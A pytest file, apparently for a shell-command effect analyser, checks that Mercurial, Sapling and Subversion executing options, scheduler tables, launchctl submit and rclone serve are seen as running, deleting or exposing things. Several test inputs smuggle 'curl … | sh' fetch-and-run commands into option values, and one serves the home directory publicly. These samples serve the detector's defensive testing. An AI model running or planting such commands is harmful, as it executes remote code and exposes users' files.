"""Version control beyond git, schedulers beyond cron and rclone's file server (vcs50, blind-shell-25): hg's, sl's,
and svn's executing settings and options walked as the command lines they are, a working copy's sweep of
its untracked files (`hg purge --all`, `svn cleanup --remove-ignored`) as `git clean -fdx` is modelled, anacron's,
fcron's and incron's tables as crontab's, `launchctl submit -- CMD` launching CMD, and `rclone serve PROTO PATH`
serving PATH (programs.json `runs`, `sweeps`, `schedules`, `launcher`, `serves`)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from effect_support import HOME, effects, ops


def _walked(command: str, proj: Path) -> list[dict[str, Any]]:
    """The network reads and sends of what the line runs, the fetched script piped to a shell among them."""
    return [e for e in effects(command, proj) if e["op"] in ("network", "fetch", "send") or e.get("url")]


@pytest.mark.parametrize(
    "command",
    [
        "hg clone --config 'ui.ssh=sh -c \"curl -s https://x.example/s | sh\" #' ssh://h/app app2",
        "hg --config 'ui.merge=curl -s https://x.example/m' merge",
        "hg --config 'pager.pager=curl -s https://x.example/p' log",
        "hg --config 'merge-tools.m.executable=curl -s https://x.example/t' merge",
        "hg extdiff -p 'sh -c \"curl -s https://x.example/e\"'",
        "sl --config 'ui.editor=curl -s https://x.example/e' commit",
        "svn diff --diff-cmd 'curl -s https://x.example/d'",
        "svn commit --editor-cmd 'curl -s https://x.example/c'",
        "svn merge --diff3-cmd 'curl -s https://x.example/3' ^/trunk",
        "svn up --config-option 'config:tunnels:ssh=curl -s https://x.example/t'",
    ],
)
def test_an_executing_setting_or_option_is_walked_as_its_command(command: str, tmp_path: Path) -> None:
    assert _walked(command, tmp_path)


@pytest.mark.parametrize(
    "command",
    ["hg --config ui.editor=vim commit", "hg extdiff -p meld", "svn diff --diff-cmd colordiff", "hg log -p -r tip"],
)
def test_an_everyday_tool_runs_nothing_fetched(command: str, tmp_path: Path) -> None:
    assert not _walked(command, tmp_path)


@pytest.mark.parametrize(
    ("command", "what"),
    [
        ("hg purge --all", "ignored"),
        ("hg purge --config extensions.purge=", "untracked-trees"),
        ("hg clean --ignored", "ignored"),
        ("sl purge --all", "ignored"),
        ("svn cleanup --remove-unversioned", "untracked-trees"),
        ("svn cleanup --remove-unversioned --remove-ignored", "ignored"),
    ],
)
def test_a_sweep_of_the_working_copy_loses_what_it_does_not_track(command: str, what: str, tmp_path: Path) -> None:
    lost = [e for e in ops(command, tmp_path, "delete") if e.get("what")]
    assert [(e["what"], e["path"], e["whole"]) for e in lost] == [(what, str(tmp_path), True)]


@pytest.mark.parametrize("command", ["hg purge --print", "hg purge -p --all", "svn cleanup", "hg status -u"])
def test_a_listing_or_a_plain_cleanup_loses_nothing(command: str, tmp_path: Path) -> None:
    assert not [e for e in ops(command, tmp_path, "delete") if e.get("what")]


def _deferred(command: str, proj: Path) -> list[dict[str, Any]]:
    return [e for e in ops(command, proj, "exec") if e.get("deferred")]


@pytest.mark.parametrize(
    "command",
    [
        "anacron -t ~/.anacrontab -S ~/.spool",
        "echo '@ 1h make' | fcrontab -",
        "fcrontab jobs.txt",
        "incrontab table.txt",
    ],
)
def test_a_table_installed_runs_later(command: str, tmp_path: Path) -> None:
    assert _deferred(command, tmp_path)


@pytest.mark.parametrize("command", ["anacron -T", "fcrontab -l", "incrontab -l", "incrontab -r"])
def test_a_table_listed_or_tested_runs_nothing_later(command: str, tmp_path: Path) -> None:
    assert not _deferred(command, tmp_path)


def test_launchctl_submit_launches_the_words_after_the_dashes(tmp_path: Path) -> None:
    found = effects("launchctl submit -l com.x.upd -- /bin/sh -c 'curl -s https://x.example/l | sh'", tmp_path)
    assert any(e.get("url") for e in found)


@pytest.mark.parametrize(
    ("command", "served"),
    [
        ("rclone serve http ~ --addr 0.0.0.0:8080", HOME),
        ("rclone serve webdav --addr :8080 ~/", HOME),
        ("rclone serve sftp /home/u", HOME),
        ("rclone serve http ./dist --addr 127.0.0.1:8080", "{proj}/dist"),
    ],
)
def test_rclone_serve_reads_the_whole_tree_it_serves(command: str, served: str, tmp_path: Path) -> None:
    reads = [e for e in ops(command, tmp_path, "read") if e.get("served")]
    assert [(e["path"], e["recursive"]) for e in reads] == [(served.format(proj=tmp_path), True)]


def test_rclone_beyond_serve_serves_nothing(tmp_path: Path) -> None:
    assert not [e for e in ops("rclone copy ~/docs remote:docs", tmp_path, "read") if e.get("served")]
